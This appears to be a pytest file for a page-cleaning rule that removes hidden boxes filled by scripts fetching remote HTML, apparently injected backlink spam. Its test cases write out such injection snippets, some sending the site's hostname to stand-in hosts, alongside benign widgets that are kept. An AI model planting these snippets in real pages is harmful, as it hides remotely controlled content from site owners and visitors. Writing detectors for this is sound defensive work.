from __future__ import annotations

import pytest

from tests.signs.cases import restores, silent

SOURCE = "https://cdn.example.net/back.js"
HOLDER = '<div id="boxa" hidden></div>'


@pytest.mark.parametrize(
    "script",
    [
        f'fetch("{SOURCE}").then(r=>r.text()).then(t=>document.getElementById("boxa").innerHTML=t)',
        (
            f"var x=new XMLHttpRequest();x.open('GET','{SOURCE}');"
            "x.onload=function(){document.getElementById('boxa').innerHTML=x.responseText};x.send()"
        ),
        f'$.get("{SOURCE}",function(t){{$("#boxa").html(t)}})',
        f'$("#boxa").load("{SOURCE}")',
        f'fetch("{SOURCE}").then(r=>r.text()).then(t=>document.querySelector("#boxa").insertAdjacentHTML("beforeend",t))',
    ],
)
def test_a_hidden_holder_goes_with_the_script_that_fills_it(script: str) -> None:
    restores(body=f"{HOLDER}<script>{script}</script>", rule="fetched-block")


def test_holder_and_script_may_stand_apart() -> None:
    script = (
        f'<script>fetch("{SOURCE}").then(r=>r.text()).then(t=>document.getElementById("boxa").innerHTML=t)</script>'
    )
    restores(body=f"{HOLDER}\n", head=f"{script}\n", rule="fetched-block")


@pytest.mark.parametrize(
    ("holder", "script"),
    [
        (HOLDER, 'fetch("/parts/news.html").then(r=>r.text()).then(t=>document.getElementById("boxa").innerHTML=t)'),
        (
            '<div id="boxa"></div>',
            f'fetch("{SOURCE}").then(r=>r.text()).then(t=>document.getElementById("boxa").innerHTML=t)',
        ),
        (
            '<div id="boxa" hidden><p>The weather is loaded.</p></div>',
            f'fetch("{SOURCE}").then(r=>r.text()).then(t=>document.getElementById("boxa").innerHTML=t)',
        ),
        (
            HOLDER,
            (
                f'fetch("{SOURCE}").then(r=>r.text()).then(t=>{{const b=document.getElementById("boxa");'
                'document.getElementById("boxa").innerHTML=t;b.hidden=false})'
            ),
        ),
    ],
    ids=["own host", "seen", "not empty", "shown later"],
)
def test_a_part_of_the_page_that_is_loaded_later_stays(holder: str, script: str) -> None:
    silent(body=f"{holder}<script>{script}</script>")


@pytest.mark.parametrize(
    "body",
    [
        (
            '<span id="x1" style="font-size:0"></span>'
            f'<script>$.ajax({{type:"GET",url:"{SOURCE}",success:function(r){{$("#x1").html(r)}}}});</script>\n'
        ),
        (f'<div id="low" style="height:0;overflow:hidden"></div><script>jQuery("#low").load("{SOURCE}");</script>\n'),
        (
            "<div id=datax style=display:none></div><script>fetch(`https://cdn.example.net/${location.host}.txt`)"
            ".then(a=>a.text()).then(b=>{datax.innerHTML=b})</script>\n"
        ),
        (
            '<div id="seen"></div><script>fetch("https://cdn.example.net/backlink.txt").then(r=>r.text())'
            '.then(t=>document.getElementById("seen").innerHTML=t)</script>\n'
        ),
        (
            f'<script>fetch("{SOURCE}").then(r=>r.text()).then(t=>document.body.insertAdjacentHTML("beforeend",'
            '"<div style=\'display:none\'>"+t+"</div>"))</script>\n'
        ),
    ],
)
def test_the_holder_may_be_hidden_in_other_ways_or_be_written_by_the_script(body: str) -> None:
    restores(body=body, rule="fetched-block")


@pytest.mark.parametrize(
    "body",
    [
        (
            '<div id="weather"></div><script>$.ajax({url:"https://api.example.net/weather",'
            'success:function(r){$("#weather").html(r)}});</script>\n'
        ),
        (
            '<script>fetch("https://api.example.net/news").then(r=>r.text()).then(t=>document.body'
            '.insertAdjacentHTML("beforeend","<aside>"+t+"</aside>"))</script>\n'
        ),
        (
            '<div id="tip" style="display:none"></div><script>fetch("https://api.example.net/tip").then(r=>r.text())'
            '.then(t=>{tip.innerHTML=t;tip.style.display="block"})</script>\n'
        ),
    ],
)
def test_widgets_that_fetch_for_people_to_see_stay(body: str) -> None:
    silent(body=body)


def test_an_address_that_names_what_it_sends_need_not_be_new_to_the_page() -> None:
    script = (
        "<script>(function(){var x=new XMLHttpRequest();x.onreadystatechange=function(){if(x.readyState==4){"
        'document.getElementById("ft_a").innerHTML=x.responseText;}};'
        'x.open("GET","https://panel.example.net/backlink/get.php?u="+location.hostname,true);x.send();})();</script>\n'
    )
    partner = '<p>Our partner is <a href="https://www.example.net/">the county archive</a>.</p>\n'
    restores(body=f'{partner}<div id="ft_a"></div>\n{script}', kept_body=partner, rule="fetched-block")


def test_a_forecast_from_a_site_that_the_page_names_stays() -> None:
    silent(
        body='<p>Forecast by <a href="https://www.example.net/">the weather office</a>.</p><div id="wx"></div>'
        '<script>fetch("https://panel.example.net/today").then(r=>r.text())'
        '.then(t=>document.getElementById("wx").innerHTML=t)</script>'
    )


def _filled(holder: str, called: str, source: str = "https://lists.example.net/a.php?n=") -> str:
    return (
        f'<{holder} id="slot1" hidden></{holder}><{holder} id="slot2" hidden></{holder}>'
        f'<script>for(var i=1;i<3;i++)(function(n){{var x=new XMLHttpRequest();x.open("GET","{source}"+n);'
        f"x.onload=function(){{document.getElementById({called}).innerHTML=x.responseText}};x.send()}})(i);</script>"
    )


@pytest.mark.parametrize("holder", ["span", "div", "p"])
def test_holders_that_are_counted_go_with_the_script_that_fills_them(holder: str) -> None:
    restores(body=_filled(holder, '"slot"+n'), rule="fetched-block")


def test_counted_holders_that_the_own_site_fills_stay() -> None:
    silent(body=_filled("div", '"slot"+n', "/parts/list.php?n="))


@pytest.mark.parametrize(
    "piece",
    [
        (
            '<div class="lnkbox" style="display:none"></div><script>$.get("https://lists.example.net/l.html",function(d)'
            '{$(".lnkbox").html(d)})</script>'
        ),
        (
            '<p class="kq" hidden></p><script>fetch("https://lists.example.net/l").then(r=>r.text()).then(t=>'
            '{document.getElementsByClassName("kq")[0].innerHTML=t})</script>'
        ),
        (
            '<script>async function z(){const r=await fetch("https://li.example.net/?d="+location.hostname);'
            'const h=await r.text();const e=document.createElement("div");e.style.cssText="position:fixed;top:-9999px";'
            "e.innerHTML=h;document.body.appendChild(e)}z()</script>"
        ),
    ],
)
def test_what_is_fetched_into_hidden_boxes_of_a_class_or_of_its_own_making(piece: str) -> None:
    restores(body=piece, rule="fetched-block")


@pytest.mark.parametrize(
    "piece",
    [
        '<div class="weather"></div><script>$.get("//sky.example.net/",function(d){$(".weather").html(d)})</script>\n',
        (
            '<script>fetch("//sky.example.net/now").then(r=>r.text()).then(t=>{const e=document.createElement("div");'
            'e.style.cssText="padding:4px";e.innerHTML=t;document.body.appendChild(e)})</script>\n'
        ),
    ],
)
def test_what_is_fetched_for_people_stays(piece: str) -> None:
    silent(body=piece)


FILLS = (
    "var x=new XMLHttpRequest;x.onload=function(){document.getElementById('boxa').outerHTML='<div%s>'+x.responseText"
    f"+'</div>'}};x.open('GET','{SOURCE}');x.send()"
)


@pytest.mark.parametrize("style", [' style="display:none"', ' style="position:absolute;left:-9999px"'])
def test_an_empty_element_goes_that_a_hidden_box_is_written_into(style: str) -> None:
    restores(body=f'<i id="boxa"></i><script>{FILLS % style}</script>', rule="fetched-block")


def test_an_element_that_is_filled_for_people_stays() -> None:
    silent(body=f'<div id="boxa"></div><script>{FILLS % " class=news"}</script>')
